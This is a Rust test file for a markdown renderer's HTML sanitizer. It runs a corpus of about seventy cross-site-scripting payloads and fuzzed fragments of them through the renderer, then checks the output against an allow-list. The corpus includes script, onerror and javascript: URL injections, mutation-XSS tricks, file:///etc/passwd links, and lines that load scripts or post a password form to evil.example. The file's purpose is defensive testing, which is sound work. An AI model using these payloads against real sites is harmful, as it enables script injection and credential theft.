//! Nothing that a writer puts into a text runs, loads or leads astray on a page.

use super::*;

/// Old and new ways in: each must leave a page on which nothing runs.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=\"javascript:alert(1)\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<java\u{a0}script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/\\evil.example/a)",
    "[x](/files/../admin)",
    "[x](https://a.example \"onmouseover=alert(1) \\\"><script>alert(1)</script>\")",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "<https://a.example/\"onmouseover=\"alert(1)>",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/files/a.svg)",
    "![x](/files/a.svg?x#y)",
    "![x\" onerror=\"alert(1)](/files/a.png)",
    "![x](/files/a.png\"onerror=\"alert(1))",
    "![x](/files/a.png '\" onerror=\"alert(1)')",
    "![x](semilla:a\"onerror=alert(1)//)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> | </td></table><svg onload=alert(1)> |\n|-|-|\n| [x](javascript:alert(1)) | x |",
    "[^\"><script>]: x\n\n[^\"><script>]",
    "[^x\" onclick=\"alert(1)]: x\n\ny[^x\" onclick=\"alert(1)]",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<a href=\"https://a.example\" onclick=\"alert(1)\" style=\"x\">x</a>",
    "<div\n\nonclick=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\\<script>alert(1)\\</script>",
    "<x onclick=alert(1)>[y](javascript:alert(1))</x>",
    "*<img src=x onerror=alert(1)>*",
    "[<img src=x onerror=alert(1)>](https://a.example)",
];

/// What a browser would make of a page: every tag, with its attributes.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let mut quoted = false;
        let end = rest.find(|letter| {
            quoted ^= letter == '"';
            letter == '>' && !quoted
        });
        let tag = &rest[..end.expect("every tag ends")];
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        let mut found = Vec::new();
        while !attributes.trim().is_empty() {
            let (name, after) =
                attributes.trim_start().split_once("=\"").unwrap_or((attributes.trim(), "\""));
            let (value, after) = after.split_once('"').expect("every value is quoted");
            found.push((name.to_owned(), value.to_owned()));
            attributes = after;
        }
        tags.push((name.to_owned(), found));
        rest = &rest[tag.len() + 1..];
    }
    tags
}

/// Every element and attribute that a page may hold, with what may stand in it. Named one by one, not by what is bad.
fn complaint(html: &str) -> Option<String> {
    for (name, attributes) in tags(html) {
        let known = [
            "a",
            "strong",
            "em",
            "del",
            "code",
            "br",
            "sup",
            "img",
            "p",
            "ul",
            "ol",
            "li",
            "blockquote",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "div",
            "section",
            "pre",
            "hr",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "label",
            "input",
            "span",
        ];
        if !known.contains(&name.trim_start_matches('/')) {
            return Some(format!("<{name}>"));
        }
        for (attribute, value) in attributes {
            let start = |starts: &[&str]| starts.iter().any(|start| value.starts_with(start));
            let fits = match (name.as_str(), attribute.as_str()) {
                ("a", "href") => {
                    start(&[
                        "https://",
                        "http://",
                        "mailto:",
                        "tel:",
                        "sms:",
                        "semilla:",
                        "/files/",
                        "#footnote-",
                        "#b",
                    ]) && !value.contains("..")
                }
                ("a", "rel") => value == "nofollow noopener noreferrer",
                ("img", "src") => {
                    start(&["/files/", "semilla:"]) && !value.to_lowercase().contains(".svg")
                }
                ("img", "alt") | ("a" | "img", "title") => true,
                ("input", "type") => value == "checkbox",
                ("input", "checked") | ("ol", "start") | ("th", "scope") | ("div", "tabindex") => {
                    true
                }
                (_, "id" | "class") => {
                    value.chars().all(|letter| letter.is_alphanumeric() || "-_+#.".contains(letter))
                }
                ("pre", "dir") => value == "auto",
                _ => false,
            };
            if !fits {
                return Some(format!("<{name} {attribute}={value:?}>"));
            }
        }
    }
    None
}

fn check(markdown: &str) -> Result<(), String> {
    let Ok(mut blocks) = split(markdown, markdown, markdown) else { return Ok(()) };
    // What stands in a text may have come another way, too: the same letters as a block of each kind.
    for kind in ["paragraph", "item", "cell", "code", "title", "h2", "task"] {
        let block = Block {
            path: Default::default(),
            kind: kind.parse().unwrap(),
            text: markdown.to_owned(),
        };
        blocks.push(block);
    }
    let html = page(&blocks).into_string();
    let whole =
        [html, blocks.iter().map(|block| render_block(block).into_string()).collect()].concat();
    match complaint(&whole).or_else(|| unbalanced(&whole)) {
        Some(complaint) => Err(format!("{complaint} of {markdown:?} in {whole}")),
        None => Ok(()),
    }
}

#[test]
fn nothing_of_the_corpus_gets_through() {
    for attack in CORPUS {
        check(attack).unwrap();
        check(&format!("> - {attack}")).unwrap();
        check(&format!("a **b {attack} c** d")).unwrap();
    }
}

#[test]
fn the_check_itself_sees_attacks() {
    for bad in [
        "<script>x</script>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<img src=\"/files/a.png\" onerror=\"x\">",
        "<img src=\"https://evil.example/a.png\">",
        "<p style=\"x\">",
        "<a href=\"https://x.example\" rel=\"opener\">",
    ] {
        assert!(complaint(bad).is_some(), "{bad}");
    }
}

#[test]
fn links_to_other_sites_give_nothing_away() {
    let html =
        page(&body("[a](https://a.example) <b@b.example> [c](/files/0/c.pdf)")).into_string();
    assert_eq!(html.matches("rel=\"nofollow noopener noreferrer\"").count(), 1, "{html}");
    assert!(
        html.contains("href=\"mailto:b@b.example\"") && html.contains("href=\"/files/0/c.pdf\""),
        "{html}"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn pieces_of_attacks_get_through_in_no_order(pieces in prop::collection::vec((prop::sample::select(CORPUS), 0..40_usize, 0..40_usize), 1..6)) {
        let cut = |(attack, from, length): &(&str, usize, usize)| attack.chars().skip(*from).take(*length).collect::<String>();
        let markdown: String = pieces.iter().map(cut).collect();
        prop_assert_eq!(check(&markdown), Ok(()));
    }

    #[test]
    fn soup_is_safe(markdown in soup()) {
        prop_assert_eq!(check(&markdown), Ok(()));
    }
}
